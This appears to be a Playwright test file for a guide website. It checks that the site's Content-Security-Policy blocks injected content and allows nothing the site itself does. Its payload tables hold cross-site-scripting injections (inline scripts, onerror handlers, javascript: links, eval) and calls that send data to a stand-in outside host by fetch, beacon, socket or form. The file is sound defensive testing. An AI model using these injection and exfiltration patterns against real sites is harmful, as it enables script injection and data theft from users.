"""The policy of the pages: it refuses whatever an attacker gets into one, and nothing that the site does."""

import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from guide_site.hosting import headers
from tests.browser.conftest import TIMEOUT, until
from tests.browser.offline.host import Host
from tests.browser.states import STATES, asked_over_the_page, filled

pytestmark = pytest.mark.browser

GUIDE = "zh/guides/overdue.html"

# What somebody would do who can write into a page: the directive that refuses it, and HTML or a script. Where
# nothing refuses it, `window.harmed` is set or ELSEWHERE is asked, a computer of theirs.
MARKUP = {
    "inline script": ("script-src-elem", "<script>window.harmed = 1</script>"),
    "script elsewhere": ("script-src-elem", '<script src="ELSEWHERE/a.js"></script>'),
    "script in an address": ("script-src-elem", '<script src="data:text/javascript,harmed=1"></script>'),
    "handler": ("script-src-attr", '<img src="data:," onerror="window.harmed = 1">'),
    "inline style": ("style-src-elem", "<style>body { display: none }</style>"),
    "style attribute": ("style-src-attr", '<p style="position: fixed; inset: 0">Pay here</p>'),
    "style sheet elsewhere": ("style-src-elem", '<link rel="stylesheet" href="ELSEWHERE/a.css">'),
    "picture elsewhere": ("img-src", '<img src="ELSEWHERE/a.png">'),
    "frame": ("frame-src", '<iframe src="ELSEWHERE"></iframe>'),
    "plug-in": ("object-src", '<object data="ELSEWHERE"></object>'),
    "base": ("base-uri", '<base href="ELSEWHERE">'),
}
SCRIPTS = {
    "eval": ("script-src", "eval('window.harmed = 1')"),
    "function from text": ("script-src", "new Function('window.harmed = 1')()"),
    "timer from text": ("script-src", "setTimeout('window.harmed = 1')"),
    "fetch": ("connect-src", "fetch('ELSEWHERE/?all').catch(() => {})"),
    "beacon": ("connect-src", "navigator.sendBeacon('ELSEWHERE', 'all')"),
    "socket": ("connect-src", "new WebSocket('ELSEWHERE'.replace('http', 'ws'))"),
    "worker": ("worker-src", "new Worker('data:text/javascript,1')"),
    "form": ("form-action", "put('form', { method: 'post', action: 'ELSEWHERE' }).submit()"),
    "javascript: address": ("script-src-elem", "put('a', { href: 'javascript:window.harmed = 1' }).click()"),
}
LISTEN = """
  window.refusals = [];
  document.addEventListener("securitypolicyviolation", (event) => refusals.push(event.effectiveDirective));
  window.put = (tag, values) => {
    const element = Object.assign(document.createElement(tag), values);
    document.body.append(element);
    return element;
  };
"""


@pytest.fixture
def host(site: Path) -> Iterator[Host]:
    host = Host(site)
    yield host
    host.stop()


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """The address of another computer, and what it was asked for."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def handle_one_request(self) -> None:
            asked.append(self.rfile.readline().decode("latin-1"))

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as httpd:
        thread = threading.Thread(target=httpd.serve_forever, kwargs={"poll_interval": 0.05})
        thread.start()
        yield f"http://localhost:{httpd.server_port}", asked
        httpd.shutdown()
        thread.join()


@pytest.fixture
def victim(browser: Browser) -> Iterator[Page]:
    """A page that keeps a list of what its policy refuses."""
    context = browser.new_context(service_workers="block")
    context.set_default_timeout(TIMEOUT)
    context.add_init_script(LISTEN)
    yield context.new_page()
    context.close()


def insert(page: Page, html: str) -> None:
    # Unlike what is set with innerHTML, scripts of a fragment run.
    page.evaluate(
        "html => { document.body.append(document.createRange().createContextualFragment(html)); }", html
    )


def attack(page: Page, where: str) -> None:
    """Try everything in a page; each must be refused, for the reason that it is named with."""

    def refused(name: str, directive: str) -> None:
        until(page, "refusals.length || window.harmed")
        assert (name, set(page.evaluate("refusals.splice(0)"))) == (name, {directive})
        assert page.evaluate("window.harmed") is None, name

    for name, (directive, html) in MARKUP.items():
        insert(page, html.replace("ELSEWHERE", where))
        refused(name, directive)
    for name, (directive, script) in SCRIPTS.items():
        # In a task of the page's own: what a test evaluates may itself evaluate texts.
        script = script.replace("ELSEWHERE", where)
        page.evaluate(f"() => {{ setTimeout(() => {{ try {{ {script} }} catch {{}} }}); }}")
        refused(name, directive)


def test_what_is_put_into_a_page_is_refused(
    victim: Page, base: str, elsewhere: tuple[str, list[str]]
) -> None:
    where, asked = elsewhere
    victim.goto(f"{base}{GUIDE}")
    before = victim.url
    attack(victim, where)
    assert victim.url == before
    assert asked == []


def test_data_for_programs_is_not_refused(victim: Page, site: Path, host: Host) -> None:
    data = b'<script type="application/ld+json">{"@context":"https://schema.org"}</script>'
    host.instead[GUIDE] = (site / GUIDE).read_bytes().replace(b"</head>", data + b"</head>")
    victim.goto(f"{host.address}{GUIDE}")
    insert(victim, data.decode())
    insert(victim, MARKUP["inline script"][1])  # refused after what stands before it
    until(victim, "refusals.length")
    assert victim.locator("script[type='application/ld+json']").count() == 2
    assert victim.evaluate("refusals") == [MARKUP["inline script"][0]]


def test_without_the_policy_it_would_be_done(
    victim: Page, site: Path, host: Host, elsewhere: tuple[str, list[str]]
) -> None:
    # What does no harm here either, the tests above prove nothing with.
    where, asked = elsewhere
    host.instead[GUIDE] = (site / GUIDE).read_bytes().replace(b"Content-Security-Policy", b"nothing")
    victim.goto(f"{host.address}{GUIDE}")
    insert(victim, MARKUP["handler"][1])
    until(victim, "window.harmed")
    victim.evaluate("() => { setTimeout(() => { eval('window.harmed = 2'); }); }")
    until(victim, "window.harmed === 2")
    victim.evaluate("where => fetch(`${where}/all`, { mode: 'no-cors' }).catch(() => {})", where)
    assert [line.split()[1] for line in asked] == ["/all"]
    assert victim.evaluate("refusals") == []


def test_nothing_of_ours_is_refused_in_a_folder(
    new_context: Callable[..., BrowserContext], site: Path
) -> None:
    walk(new_context(), f"{site.as_uri()}/")


def test_nothing_of_ours_is_refused_with_all_headers(
    new_context: Callable[..., BrowserContext], host: Host
) -> None:
    host.headers = headers
    context = new_context()
    context.new_page().goto(f"{host.address}404.html")
    walk(context, host.address)


def test_no_page_can_be_framed(victim: Page, host: Host) -> None:
    host.headers = headers
    victim.goto("about:blank")
    for path in (GUIDE, "offline/guides.html"):
        victim.evaluate("src => { put('iframe', { src, id: 'frame' }); }", f"{host.address}{path}")
        until(victim, "document.getElementById('frame').contentDocument === null")
        frame = victim.frame_locator("#frame")
        expect(frame.locator("h1")).to_have_count(0)
        victim.evaluate("document.getElementById('frame').remove()")


def test_a_file_to_take_along_is_whole_with_all_headers(
    new_context: Callable[..., BrowserContext], host: Host
) -> None:
    host.headers = headers
    page = new_context().new_page()
    page.goto(f"{host.address}offline/guides.html#/zh/guides/overdue")
    expect(page.locator("article:not([hidden]) h1")).to_be_visible()
    assert page.evaluate("getComputedStyle(document.querySelector('.b-cut')).display") == "none"
    page.keyboard.press("/")
    page.get_by_role("combobox").fill("借呗")
    expect(page.get_by_role("option").first).to_be_visible()


def walk(context: BrowserContext, base: str) -> None:
    """Open a page of each kind, and use what is on it."""
    page = context.new_page()
    page.goto(f"{base}index.html")
    for state in STATES:
        if state.address in ("index", "start", "about") or state.name in ("found", "error", "opened"):
            page.goto(f"{base}zh/{state.address}.html")
            state.act(page)
            assert page.evaluate("getComputedStyle(document.body).marginTop") == "0px"  # it has its style
    page.goto(f"{base}{GUIDE}")
    filled(page)
    asked_over_the_page(page)
    page.goto(f"{base}zh/tools/my-data.html")
    with page.expect_download():
        page.locator("button.g-button[data-export]").click()
    page.goto(f"{base}en/contacts.html")
    with page.expect_download():
        page.locator("a[href$='.vcf']").first.click()
    page.close()
